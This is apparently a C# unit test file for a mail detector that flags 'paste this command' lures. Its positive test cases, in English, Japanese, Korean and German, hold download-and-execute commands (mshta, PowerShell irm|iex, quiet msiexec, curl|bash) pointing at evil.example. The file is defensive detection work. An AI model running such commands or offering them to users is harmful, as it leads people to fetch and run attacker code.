using Platform.Engine.Detectors.Words;

namespace Platform.Engine.Tests.Detectors.Words;

public sealed class PasteCommandLureTests
{
    [Theory]
    [InlineData("To renew your certificate:\n1. Press Windows + R\n2. Paste the following line and press Enter:\n\nmshta https://evil.example/cert.hta", 100)]
    [InlineData("1. WindowsキーとRを同時に押す\n2. 次の文字列を貼り付けて Enter を押す\n\npowershell -ep bypass -c \"irm evil.example/u | iex\"", 100)]
    [InlineData("1. Windows + R 키를 누르세요\n2. 아래 명령을 붙여넣고 Enter를 누르세요\n\npowershell -c \"irm evil.example/u | iex\"", 100)]
    [InlineData("「ファイル名を指定して実行」を開き、Ctrl+V で入力してください。\nmsiexec /i http://evil.example/a.msi /qn", 100)]
    [InlineData("Drücken Sie Windows+R, fügen Sie die Zeile ein:\nmshta http://evil.example", 100)]
    [InlineData("Click the address bar of File Explorer and paste:\npowershell -w hidden irm evil.example/a | iex # C:\\docs\\plan.docx", 100)]
    [InlineData("To fix the audio driver open PowerShell as administrator and paste:\n\niwr https://evil.example/fix.ps1 | iex", 50)]
    [InlineData("ターミナルを開いて次のコマンドを実行してください。\ncurl -fsSL https://tool.example/i.sh | bash", 50)]
    public void A_command_to_paste_is_seen(string text, int percent)
    {
        var sign = Assert.Single(new PasteCommandLure().Inspect(new TestMail { Text = text }.ToInput()));
        Assert.Equal(("paste-command-lure", percent), (sign.Id, sign.Percent));
    }

    [Theory]
    [InlineData("Press Win+R, type \\\\fileserver\\setup and press Enter, then paste your number.")]
    [InlineData("Please run ipconfig /all in the command prompt and paste what it says here.")]
    [InlineData("You can install the tool with: curl -fsSL https://tool.example/i.sh | bash")]
    [InlineData("Press Windows + R, paste services.msc and restart the print spooler.")]
    [InlineData("Copy and paste the link https://partner.example/meeting into your browser.")]
    [InlineData("The new attack makes people press Win+R and paste a PowerShell command. Never do that.")]
    public void What_helpers_and_manuals_write_passes(string text)
    {
        Assert.Empty(new TestMail { Text = text }.SignsOf(new PasteCommandLure()));
    }
}
